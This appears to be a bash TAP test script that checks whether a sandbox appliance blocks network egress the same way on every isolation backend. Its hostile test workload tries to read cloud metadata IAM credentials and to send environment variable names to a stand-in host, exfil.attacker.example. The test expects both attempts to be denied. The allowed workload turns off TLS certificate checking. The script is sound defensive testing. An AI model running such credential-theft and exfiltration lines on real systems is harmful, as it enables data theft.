#!/bin/bash
# tests/lab/parity.sh - TAP: invariant 2 across isolation backends. The same
# allowed workload (fetch https://allowed.test/, return its hash) and the
# seed's hostile workload run byte-identically on every backend the
# appliance reports available; results, verdicts and audit type sequences
# must be identical. Backends that are unavailable are listed with their
# reason and skipped (never passed silently).
if [ -z "${BASH_VERSION:-}" ]; then exec bash "$0" "$@"; fi
set -u

here=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=lib.sh
. "$here/lib.sh"

top_build=${abs_top_builddir:-$(cd "$here/../.." && pwd)}
top_src=${abs_top_srcdir:-$(cd "$here/../.." && pwd)}
CTL=$top_build/ctl/enclavectl
export ENCLAVE_BUILDDIR=$top_build
export ENCLAVE_LAB_SCRIPT=$top_src/ctl/enclave-lab

lab_preflight
if [ ! -x "$CTL" ]; then
	echo "1..1"
	echo "not ok 1 - $CTL built (make check builds it)"
	exit 1
fi

NAME=p$(od -An -N3 -tx1 /dev/urandom | tr -d ' \n')
T=$(mktemp -d /tmp/enclave-parity-test.XXXXXX)
cleanup() {
	"$CTL" lab down "$NAME" >/dev/null 2>&1
	[ -n "${PARITY_EXTRA_DOWN:-}" ] && eval "$PARITY_EXTRA_DOWN"
	rm -rf -- "$T"
}
trap cleanup EXIT
trap 'exit 130' INT TERM HUP

# --docker: the appliance's own private dockerd, when dockerd is
# installed (without it the docker backend is listed as unavailable).
# Further backend options come in through PARITY_CONF_EXTRA (they win over
# the lab's); the defaults find the runtimes in PATH.
: >"$T/extra.conf"
[ -n "${PARITY_CONF_EXTRA:-}" ] && cat "$PARITY_CONF_EXTRA" >>"$T/extra.conf"
if ! "$CTL" lab up --name "$NAME" --docker --sessiond-conf-extra "$T/extra.conf" \
	>"$T/up.out" 2>"$T/up.err"; then
	echo "1..1"
	echo "not ok 1 - lab up"
	sed 's/^/# /' "$T/up.err" | tail -20
	exit 1
fi
S=$(sed -n 's/^ENCLAVE_SOCKET=//p' "$T/up.out")


api GET /v1/backends >/dev/null
mapfile -t AVAIL < <(js '"\n".join(b["name"] for b in d["backends"] if b["available"])' | sed '/^$/d')
mapfile -t UNAVAIL < <(js '"\n".join("%s: %s" % (b["name"], b["reason"]) for b in d["backends"] if not b["available"])' | sed '/^$/d')
n=${#AVAIL[@]}
# per backend: 4 checks; then 2 parity checks; then one skip per unavailable
tap_plan $((1 + 4 * n + 2 + ${#UNAVAIL[@]}))
if [ "$n" -ge 1 ]; then ok "backends available: ${AVAIL[*]}"; else not_ok "no backend available"; fi

cat >"$T/allowed.py" <<'EOF'
import enclave, hashlib, ssl, urllib.request
# The lab's CA is per run and not in the sandbox's trust store; the point
# here is the path through the proxy, not certificate validation.
ctx = ssl._create_unverified_context()
body = urllib.request.urlopen("https://allowed.test/", context=ctx, timeout=20).read()
enclave.result({"sha256": hashlib.sha256(body).hexdigest(), "bytes": len(body)})
EOF
cat >"$T/hostile.py" <<'EOF'
import enclave
import os, json, urllib.request

try:
    urllib.request.urlopen("http://169.254.169.254/latest/meta-data/iam/security-credentials/")
except Exception as e:
    print("metadata fetch blocked:", e)

try:
    urllib.request.urlopen("http://exfil.attacker.example/exfil?dump=" + ",".join(os.environ.keys()))
except Exception as e:
    print("exfil blocked:", e)

enclave.result({"egressAttempted": True})
EOF
body() { # FILE BACKEND -> $T/req; the same bytes but for "backend"
	python3 -c 'import json,sys
print(json.dumps({"language":"python","code":open(sys.argv[1]).read(),"backend":sys.argv[2],
  "egress":{"allow":["allowed.test"]},"limits":{"timeout_ms":120000},"wait":True}))' "$1" "$2" >"$T/req"
}
verdict() { # session file, audit file -> one line
	python3 - "$1" "$2" <<'EOF'
import json, re, sys
s = json.load(open(sys.argv[1])); a = json.load(open(sys.argv[2]))
denied = sorted({e["data"]["host"] for e in a["events"] if e["type"] == "egress_denied"})
leak = bool(re.search(r"eyJ[A-Za-z0-9_-]{8,}", json.dumps([s, a])))
print(json.dumps({"phase": s["phase"], "result": s["result"], "denied": denied,
                  "leak": leak, "types": [e["type"] for e in a["events"]]}, sort_keys=True))
EOF
}

for b in "${AVAIL[@]}"; do
	for w in allowed hostile; do
		body "$T/$w.py" "$b"
		st=$(api POST /v1/sessions "$T/req")
		cp "$T/body" "$T/$b.$w.session"
		id=$(js 'd.get("id", "")' "$T/$b.$w.session")
		api GET "/v1/sessions/$id/audit" >/dev/null
		cp "$T/body" "$T/$b.$w.audit"
		verdict "$T/$b.$w.session" "$T/$b.$w.audit" >"$T/$b.$w.verdict" 2>/dev/null
		api DELETE "/v1/sessions/$id" >/dev/null
		[ "$st" = 201 ] || tap_diag "$b $w: POST answered $st: $(head -c 300 "$T/$b.$w.session")"
	done
	want='{"denied": [], "leak": false, "phase": "succeeded", "result": {"bytes": '
	v=$(cat "$T/$b.allowed.verdict")
	case "$v" in
	"$want"*'"types": ["session_created", "sandbox_started", "egress_allowed", "egress_allowed", "result_collected", "workload_exited", "usage_metered"]}')
		ok "$b: allowed workload fetched https://allowed.test/ through the proxy" ;;
	*) not_ok "$b: allowed workload fetched https://allowed.test/ through the proxy"; tap_diag "$v" ;;
	esac
	v=$(cat "$T/$b.hostile.verdict")
	if [ "$v" = '{"denied": ["169.254.169.254", "exfil.attacker.example"], "leak": false, "phase": "succeeded", "result": {"egressAttempted": true}, "types": ["session_created", "sandbox_started", "egress_denied", "egress_denied", "result_collected", "workload_exited", "usage_metered"]}' ]; then
		ok "$b: hostile workload denied twice, audited in the seed's sequence, nothing leaked"
	else
		not_ok "$b: hostile workload denied twice, audited in the seed's sequence, nothing leaked"; tap_diag "$v"
	fi
	is_stdout=$(js 'd["stdout"]' "$T/$b.hostile.session" | grep -c blocked)
	if [ "$is_stdout" = 2 ]; then ok "$b: the workload saw both attempts refused"; else
		not_ok "$b: the workload saw both attempts refused"; tap_diag "$(js 'd["stdout"]' "$T/$b.hostile.session")"; fi
	u=$(js 'int(d["usage"]["wall_ms"] > 0 and d["usage"]["mem_peak_bytes"] > 0)' "$T/$b.allowed.session")
	if [ "$u" = 1 ]; then ok "$b: usage metered (wall time, peak memory)"; else
		not_ok "$b: usage metered (wall time, peak memory)"; tap_diag "$(js 'd["usage"]' "$T/$b.allowed.session")"; fi
done

first=${AVAIL[0]:-none}
same=1
for b in "${AVAIL[@]}"; do
	cmp -s "$T/$first.allowed.verdict" "$T/$b.allowed.verdict" || { same=0; tap_diag "$b allowed differs from $first"; }
done
if [ "$same" = 1 ]; then ok "parity: the allowed workload's verdict and result are identical on ${#AVAIL[@]} backend(s)"; else
	not_ok "parity: the allowed workload's verdict and result are identical on ${#AVAIL[@]} backend(s)"; fi
same=1
for b in "${AVAIL[@]}"; do
	cmp -s "$T/$first.hostile.verdict" "$T/$b.hostile.verdict" || { same=0; tap_diag "$b hostile differs from $first"; }
done
if [ "$same" = 1 ]; then ok "parity: the hostile workload's verdict and audit sequence are identical on ${#AVAIL[@]} backend(s)"; else
	not_ok "parity: the hostile workload's verdict and audit sequence are identical on ${#AVAIL[@]} backend(s)"; fi
for u in "${UNAVAIL[@]}"; do
	tap_skip "backend ${u%%:*}" "unavailable here: ${u#*: }"
done

tap_done
